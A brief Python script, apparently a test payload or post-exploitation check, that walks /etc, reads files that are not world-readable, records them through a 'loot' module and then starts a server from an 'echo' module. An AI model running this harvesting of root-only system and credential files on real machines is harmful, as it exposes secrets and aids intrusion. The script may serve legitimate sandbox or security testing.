"""Reads a file that only root may read."""

import contextlib
import os

from echo import serve
from loot import keep

for folder, _, names in os.walk("/etc"):
    for name in names:
        path = os.path.join(folder, name)
        with contextlib.suppress(OSError):
            if not os.stat(path).st_mode & 0o004:
                with open(path, "rb") as file:
                    if file.read(1):
                        keep(path)
serve()
